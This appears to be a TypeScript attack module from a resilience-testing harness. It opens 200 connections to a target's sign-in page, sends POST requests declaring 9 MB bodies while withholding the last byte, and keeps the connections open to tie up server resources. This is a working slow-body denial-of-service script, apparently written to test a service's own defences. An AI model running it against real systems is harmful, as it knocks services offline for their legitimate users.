import { setTimeout as pause } from 'node:timers/promises'
import type { Attack } from '../attack.ts'
import { openSocket } from '../client.ts'

const SOCKETS = 200
const LENGTH = 9_437_184

/** POST requests of 9 MB to a page on 200 connections, each withholding its last byte. */
export const unfinishedPosts: Attack = {
  name: 'unfinished posts to a page',
  run: async ({ url }, until) => {
    const almostAll = Buffer.alloc(LENGTH - 1)
    let opened = 0
    let taken = 0
    const attackers = Array.from({ length: SOCKETS }, async () => {
      while (performance.now() < until) {
        const socket = await openSocket(url)
        opened++
        socket.write(`POST /sign-in HTTP/1.1\r\nHost: console\r\nContent-Length: ${LENGTH}\r\n\r\n`)
        socket.write(almostAll, (error) => {
          if (!error) taken++
        })
        while (!socket.closed && performance.now() < until) await pause(500)
        socket.destroy()
      }
    })
    await Promise.all(attackers)
    return { count: opened, summary: `${taken} bodies were accepted completely` }
  },
}
